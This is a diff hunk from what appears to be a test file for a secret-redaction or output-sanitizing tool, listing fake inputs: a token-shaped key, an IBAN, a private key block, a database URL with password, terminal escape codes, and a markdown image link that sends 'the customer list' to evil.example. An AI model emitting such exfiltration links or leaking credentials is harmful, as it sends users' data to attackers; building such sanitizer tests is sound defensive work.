@@ -19,7 +19,7 @@ PLAIN = [
     "key is ghp_aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6 ok",
     "to DE89 3704 0044 0532 0130 00 please",
     "![x](https://evil.example/p.png?data=the+customer+list) there",
-    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx0Y3kq9vJm2Tz7Qd5fLw8bNc4Rg6Up\n-----END RSA PRIVATE KEY-----\nkeep",
+    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx0Y3kq9vJm2Tz7Qd5fLw8b6Up\n-----END RSA PRIVATE KEY-----\nkeep",
     "postgres://app:hunter2hunter2@db.internal:5432/main",
     "\x1b]0;title\x07text \x1b[2Jmore",
 ]
